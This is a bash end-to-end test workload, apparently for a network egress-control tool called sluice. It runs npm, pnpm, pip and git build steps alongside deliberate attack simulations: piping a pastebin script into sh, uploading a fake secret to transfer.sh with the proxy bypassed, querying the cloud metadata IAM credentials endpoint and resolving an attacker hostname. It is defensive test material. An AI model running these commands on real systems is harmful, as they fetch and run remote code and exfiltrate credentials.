#!/bin/bash
# SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
#
# sluice e2e: the build workload (selftests/e2e/README.md), the steps named, in order, each
# whatever the others did; STEP#TAG is STEP again (the cache timings run npm-ci twice in one
# run). Run by e2e-lib.sh's e2e_run in each way (open network, no network, proxy, sluice); the
# same commands every way. For each step, its output goes to
# $E2E_WORK/STEP.out and "STEP RC MS T0 T1" to $E2E_WORK/results (MS: the step's own wall time;
# T0, T1: its start and end in ms since the epoch, which place the servers' log lines).
#
# Environment (set by e2e_run): E2E_WORK (this way's scratch directory), E2E_FIX (the fixtures:
# the project's package.json and lockfiles), E2E_PNPM (pnpm's entry point), HOME, PATH, the CA
# variables (NODE_EXTRA_CA_CERTS, PIP_CERT, GIT_SSL_CAINFO, CURL_CA_BUNDLE) and, in the proxy way,
# the proxy variables.

W=${E2E_WORK:?}
FIX=${E2E_FIX:?}
cd "$W" || exit 1

run_step() {
	case ${step%%#*} in
	npm-ci)
		# From an empty npm cache, as on a fresh CI runner: every tarball is fetched.
		rm -rf "$W/npm" "${npm_config_cache:?}" && mkdir -p "$W/npm" &&
			cp "$FIX/app/package.json" "$FIX/app/package-lock.json" "$W/npm/" &&
			cd "$W/npm" && npm ci --no-audit --no-fund &&
			node -e 'console.log("app:", require("sl-e2e-util")("ok"))'
		;;
	pnpm)
		rm -rf "$W/pnpm" && mkdir -p "$W/pnpm" &&
			cp "$FIX/app/package.json" "$FIX/app/pnpm-lock.yaml" "$W/pnpm/" &&
			cd "$W/pnpm" &&
			node "$E2E_PNPM" install --frozen-lockfile --store-dir "$W/pnpm-store" &&
			node -e 'console.log("app:", require("sl-e2e-util")("ok"))'
		;;
	pip)
		rm -rf "$W/py" &&
			python3 -m pip install --no-build-isolation --target "$W/py" \
				--index-url https://pypi.org/simple/ slpkg-cli &&
			PYTHONPATH=$W/py python3 -c 'import slpkg_cli; print("cli:", slpkg_cli.hello())'
		;;
	git-clone)
		rm -rf "$W/repo" &&
			git clone --single-branch --branch main https://git.internal.example/demo.git \
				"$W/repo"
		;;
	git-fetch)
		# A branch the clone did not take: a pack only the fetch can bring.
		git -C "$W/repo" fetch origin release:refs/remotes/origin/release &&
			git -C "$W/repo" log -1 --format='fetched: %s' origin/release
		;;
	paste)
		# The script runs only if the fetch worked; its mark is the proof it ran.
		rm -f "$W/paste-ran"
		curl -fsS --max-time 10 https://pastebin.com/raw/e2e.sh | E2E_WORK=$W sh
		[[ -e $W/paste-ran ]]
		;;
	upload)
		# An exfiltrating script unsets the proxy: --noproxy.
		echo "AKIA-E2E-FAKE secret from the build" >"$W/secrets.txt"
		curl -fsS --noproxy '*' --max-time 10 -T "$W/secrets.txt" \
			https://transfer.sh/e2e/secrets.txt && echo "uploaded"
		;;
	metadata)
		# A raw socket: no proxy variable applies.
		python3 - <<'PY'
import socket, sys
try:
    s = socket.create_connection(("169.254.169.254", 80), timeout=5)
    s.sendall(b"GET /latest/meta-data/iam/security-credentials/e2e HTTP/1.0\r\n"
              b"Host: 169.254.169.254\r\n\r\n")
    d = s.recv(4096)
except OSError as e:
    print("metadata:", e)
    sys.exit(1)
print("metadata:", d.split(b"\r\n\r\n", 1)[-1].decode(errors="replace").strip())
sys.exit(0 if d.startswith(b"HTTP/1.1 200") else 1)
PY
		;;
	unlisted)
		getent ahostsv4 exfil.attacker.example || {
			rc=$?
			echo "getent: exit $rc (not found)"
			return $rc
		}
		;;
	*)
		echo "workload.sh: unknown step '$step'" >&2
		return 2
		;;
	esac
}

for step in "$@"; do
	echo "== $step" >&2
	t0=$(date +%s%3N)
	(run_step) >"$W/$step.out" 2>&1
	rc=$?
	t1=$(date +%s%3N)
	echo "$step $rc $((t1 - t0)) $t0 $t1" >>"$W/results"
done
exit 0
